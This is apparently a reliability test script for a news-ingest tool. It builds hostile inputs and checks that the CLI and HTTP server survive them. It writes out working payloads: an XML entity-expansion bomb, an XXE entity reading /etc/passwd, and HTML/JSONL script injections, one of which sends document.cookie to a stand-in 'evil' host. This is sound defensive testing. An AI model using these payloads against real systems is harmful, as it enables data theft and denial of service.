/**
 * The hostile-input corpus: makes each input in a temp folder, then feeds every one to
 * `khabar ingest` (a child process per input, SQLite archive) and to a running
 * `khabar serve` through POST /api/ingest, and prints what happened to each: the summary
 * (stored / quarantined with rule ids) or the HTTP answer, the time, and whether the
 * process crashed. Exit code 1 if any ingest crashed or the server died.
 *
 *   node --import tsx scripts/reliability/hostile-corpus.ts [--keep] [--only NAME] [--skip NAME]
 */
import { spawn, spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import {
  closeSync,
  existsSync,
  mkdtempSync,
  openSync,
  rmSync,
  statSync,
  writeFileSync,
  writeSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { syntheticArticle } from './corpus.ts';

const root = new URL('../../', import.meta.url).pathname;
const args = process.argv.slice(2);
const only = args.includes('--only') ? args[args.indexOf('--only') + 1] : undefined;
const skip = args.includes('--skip') ? args[args.indexOf('--skip') + 1] : undefined;
const dir = mkdtempSync(join(tmpdir(), 'khabar-hostile-'));
const body = syntheticArticle(1, 9).text;

type Maker = (path: string) => void;
const inputs: Array<{ name: string; file: string; contentType: string; make: Maker }> = [
  {
    name: 'binary',
    file: 'random.bin',
    contentType: 'text/plain',
    make: (p) => writeFileSync(p, randomBytes(256 * 1024)),
  },
  {
    name: '50 MB text',
    file: 'huge.txt',
    contentType: 'text/plain',
    make: (p) => {
      const fd = openSync(p, 'w');
      const chunk = Buffer.from(`${body}\n\n`);
      for (let n = 0; n < 50 * 1024 * 1024; n += chunk.length) writeSync(fd, chunk);
      closeSync(fd);
    },
  },
  {
    name: 'deeply nested HTML (100,000 levels)',
    file: 'nested.html',
    contentType: 'text/html',
    make: (p) =>
      writeFileSync(
        p,
        `<!doctype html><html><body>${'<div>'.repeat(100_000)}<p>${body}</p>${'</div>'.repeat(100_000)}</body></html>`,
      ),
  },
  {
    name: 'malformed HTML',
    file: 'malformed.html',
    contentType: 'text/html',
    make: (p) =>
      writeFileSync(
        p,
        `<html><head><title>عنوان <b>غير <i>مغلق</head><body><p>${body.slice(0, 800)}<table><tr><td><p><<<>>>&&&;&#xZZ;&#99999999;<a href="javascript:alert(1)" onclick=x>رابط<div</p></td></body></html><p>${body.slice(800)}`,
      ),
  },
  {
    name: 'billion laughs feed (XML entity expansion)',
    file: 'laughs.xml',
    contentType: 'text/html',
    make: (p) => {
      const ents = ['<!ENTITY lol "lol">'];
      for (let i = 1; i <= 9; i++)
        ents.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
      writeFileSync(
        p,
        `<?xml version="1.0"?>\n<!DOCTYPE rss [\n${ents.join('\n')}\n]>\n<rss version="2.0"><channel><title>&lol9;</title><item><title>&lol9;</title><link>https://example.org/a</link><description>&lol9; ${body.slice(0, 400)}</description></item></channel></rss>`,
      );
    },
  },
  {
    name: 'external entity feed (XXE)',
    file: 'xxe.xml',
    contentType: 'text/html',
    make: (p) =>
      writeFileSync(
        p,
        `<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<rss version="2.0"><channel><title>x</title><item><title>&xxe;</title><link>https://example.org/xxe</link><description>&xxe; ${body.slice(0, 600)}</description></item></channel></rss>`,
      ),
  },
  {
    name: 'feed with 100,000 items',
    file: 'big-feed.xml',
    contentType: 'text/html',
    make: (p) => {
      const fd = openSync(p, 'w');
      writeSync(fd, '<?xml version="1.0"?><rss version="2.0"><channel><title>كثير</title>');
      for (let i = 0; i < 100_000; i++)
        writeSync(fd, `<item><title>خبر ${i}</title><link>https://example.org/n/${i}</link></item>`);
      writeSync(fd, '</channel></rss>');
      closeSync(fd);
    },
  },
  {
    name: 'invalid UTF-8',
    file: 'invalid-utf8.txt',
    contentType: 'text/plain',
    make: (p) => {
      const good = Buffer.from(body);
      const parts: Buffer[] = [];
      for (let i = 0; i < good.length; i += 200)
        parts.push(good.subarray(i, i + 200), Buffer.from([0xc3, 0x28, 0xff, 0xfe, 0xed, 0xa0, 0x80]));
      writeFileSync(p, Buffer.concat(parts));
    },
  },
  {
    name: 'mixed scripts',
    file: 'mixed.txt',
    contentType: 'text/plain',
    make: (p) =>
      writeFileSync(
        p,
        `${body.slice(0, 500)} Русский текст 中文文本 עברית हिन्दी ελληνικά 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 😀👍🏽 ${body.slice(500)} فارسی: این یک متن است. اردو: یہ ایک متن ہے۔`,
      ),
  },
  {
    name: 'zero-width and bidi controls',
    file: 'bidi.txt',
    contentType: 'text/plain',
    make: (p) => {
      const ctl = [
        '\u200b',
        '\u200c',
        '\u200d',
        '\u2060',
        '\ufeff',
        '\u202a',
        '\u202b',
        '\u202d',
        '\u202e',
        '\u2066',
        '\u2067',
        '\u2068',
        '\u2069',
        '\u061c',
        '\u200e',
        '\u200f',
      ];
      let out = '';
      let k = 0;
      for (const ch of body) out += ch + (ch === ' ' ? ctl[k++ % ctl.length] : '');
      writeFileSync(p, `\u202e${out}\u202c`);
    },
  },
  {
    name: 'script injection (HTML)',
    file: 'inject.html',
    contentType: 'text/html',
    make: (p) =>
      writeFileSync(
        p,
        `<html><head><title>عاجل<script>alert('t')</script><img src=x onerror=alert(1)></title></head><body><h1>"><script>fetch('//evil/'+document.cookie)</script></h1><article><p>${body.replace(/\n\n/gu, '</p><p><svg onload=alert(2)></svg>')}</p><iframe src="javascript:alert(3)"></iframe></article></body></html>`,
      ),
  },
  {
    name: 'script injection (JSONL fields)',
    file: 'inject.jsonl',
    contentType: 'application/x-ndjson',
    make: (p) =>
      writeFileSync(
        p,
        `${JSON.stringify({ id: 'inj-1', title: '<script>alert(1)</script>عنوان', url: 'javascript:alert(1)', outlet: '<img src=x onerror=alert(2)>', text: `<script>alert(3)</script>\n${body}` })}\n{"id": broken json\n${JSON.stringify({ id: 'inj-2', text: 42 })}\n`,
      ),
  },
];

interface Outcome {
  name: string;
  bytes: number;
  cli: string;
  cliMs: number;
  cliCrashed: boolean;
  api: string;
  apiMs: number;
}

const TIME = '/usr/bin/time';

/** CPU seconds and peak RSS (KiB) of a child run under GNU time, from its stderr. */
function timeOf(err: string): { cpuSeconds: number; maxRssKiB: number } | undefined {
  const m = /KHABAR_TIME ([\d.]+) ([\d.]+) (\d+)/u.exec(err);
  return m ? { cpuSeconds: +(Number(m[1]) + Number(m[2])).toFixed(2), maxRssKiB: Number(m[3]) } : undefined;
}

function runCli(
  file: string,
  db: string,
): Promise<{ code: number | null; signal: string | null; out: string; err: string; ms: number }> {
  const t0 = performance.now();
  return new Promise((resolve) => {
    const cmd = [
      process.execPath,
      join(root, 'bin/khabar.js'),
      'ingest',
      '--json',
      '--quiet',
      '--db',
      db,
      file,
    ];
    // GNU time, when present, reports the child's CPU time and peak RSS.
    const p = existsSync(TIME)
      ? spawn(TIME, ['-f', 'KHABAR_TIME %U %S %M', ...cmd], { cwd: root, stdio: ['ignore', 'pipe', 'pipe'] })
      : spawn(cmd[0]!, cmd.slice(1), { cwd: root, stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    let err = '';
    p.stdout.on('data', (d) => {
      out += d;
    });
    p.stderr.on('data', (d) => {
      err += d;
    });
    const timer = setTimeout(() => p.kill('SIGKILL'), 600_000);
    p.on('exit', (code, signal) => {
      clearTimeout(timer);
      resolve({ code, signal, out, err, ms: performance.now() - t0 });
    });
  });
}

function describeCli(r: Awaited<ReturnType<typeof runCli>>): { text: string; crashed: boolean } {
  if (r.signal) return { text: `killed by ${r.signal}`, crashed: true };
  try {
    const s = JSON.parse(r.out.trim().split('\n').pop() ?? '');
    const parts = [`exit ${r.code}`, `seen ${s.seen}`, `stored ${s.inserted + s.nearDuplicates}`];
    if (s.quarantined)
      parts.push(
        `quarantined ${s.quarantined} (${Object.entries(s.reasons)
          .map(([k, n]) => `${k} ×${n}`)
          .join(', ')})`,
      );
    const t = timeOf(r.err);
    if (t) parts.push(`CPU ${t.cpuSeconds} s, peak RSS ${Math.round(t.maxRssKiB / 1024)} MiB`);
    return { text: parts.join(', '), crashed: false };
  } catch {
    // A handled refusal (KhabarError) exits 2 with a message; anything else is a crash.
    const last = r.err
      .trim()
      .split('\n')
      .filter((l) => !l.startsWith('KHABAR_TIME'))
      .pop();
    return { text: `exit ${r.code}: ${(last ?? '').slice(0, 160)}`, crashed: r.code !== 2 };
  }
}

async function main() {
  const db = join(dir, 'hostile.db');
  const port = 18_000 + Math.floor(Math.random() * 2000);
  const token = randomBytes(8).toString('hex');
  const server = spawn(
    process.execPath,
    [join(root, 'bin/khabar.js'), 'serve', '--port', String(port), '--db', join(dir, 'api.db')],
    {
      cwd: root,
      env: { ...process.env, KHABAR_TOKEN: token },
      stdio: ['ignore', 'pipe', 'inherit'],
    },
  );
  let serverExit: string | undefined;
  server.on('exit', (code, signal) => {
    serverExit = `server exited (${code ?? signal})`;
  });
  await new Promise<void>((resolve) => server.stdout.once('data', () => resolve()));
  const base = `http://127.0.0.1:${port}`;
  const outcomes: Outcome[] = [];
  for (const input of inputs) {
    if (only && !input.name.includes(only)) continue;
    if (skip && input.name.includes(skip)) continue;
    const path = join(dir, input.file);
    input.make(path);
    const bytes = statSync(path).size;
    const cli = await runCli(path, db);
    const c = describeCli(cli);
    console.log(`  ${input.name}: cli ${(cli.ms / 1000).toFixed(1)} s: ${c.text}`);
    let api = '';
    const t0 = performance.now();
    try {
      const content = spawnSync('cat', [path], { maxBuffer: 128 * 1024 * 1024 }).stdout;
      const r = await fetch(`${base}/api/ingest`, {
        method: 'POST',
        headers: { Authorization: `Bearer ${token}`, 'Content-Type': input.contentType },
        body: content,
        signal: AbortSignal.timeout(300_000),
      });
      const text = await r.text();
      let detail = text.slice(0, 160);
      try {
        const j = JSON.parse(text);
        const items = (j.items ?? j.results ?? []) as Array<{ status?: string; ruleId?: string }>;
        detail =
          Array.isArray(items) && items.length
            ? items.map((i) => i.status ?? i.ruleId ?? '?').join(', ')
            : String(j.title ?? j.detail ?? '').slice(0, 120);
      } catch {
        // not JSON
      }
      api = `HTTP ${r.status}: ${detail}`;
    } catch (err) {
      api = `request failed: ${(err as Error).message}`;
    }
    const apiMs = performance.now() - t0;
    const health = await fetch(`${base}/api/health`, { signal: AbortSignal.timeout(30_000) })
      .then((r) => r.status)
      .catch(() => 0);
    if (health !== 200) api += ` — SERVER DOWN (${serverExit ?? 'no answer'})`;
    outcomes.push({ name: input.name, bytes, cli: c.text, cliMs: cli.ms, cliCrashed: c.crashed, api, apiMs });
    console.log(
      `${input.name.padEnd(44)} ${(bytes / 1024).toFixed(0).padStart(8)} KiB | cli ${(cli.ms / 1000).toFixed(1)} s: ${c.text} | api ${(apiMs / 1000).toFixed(1)} s: ${api}`,
    );
    rmSync(path, { force: true });
  }
  const alive = await fetch(`${base}/api/health`)
    .then((r) => r.ok)
    .catch(() => false);
  const rss = spawnSync('ps', ['-o', 'rss=', '-p', String(server.pid)])
    .stdout.toString()
    .trim();
  server.kill('SIGTERM');
  const crashed = outcomes.filter((o) => o.cliCrashed).length;
  console.log(
    `\ninputs ${outcomes.length}; cli crashes ${crashed}; server alive at the end: ${alive} (RSS ${rss} KiB)`,
  );
  console.log(JSON.stringify({ outcomes, serverAlive: alive, serverRssKiB: Number(rss) }));
  if (!args.includes('--keep')) rmSync(dir, { recursive: true, force: true });
  process.exit(crashed || !alive ? 1 : 0);
}

await main();
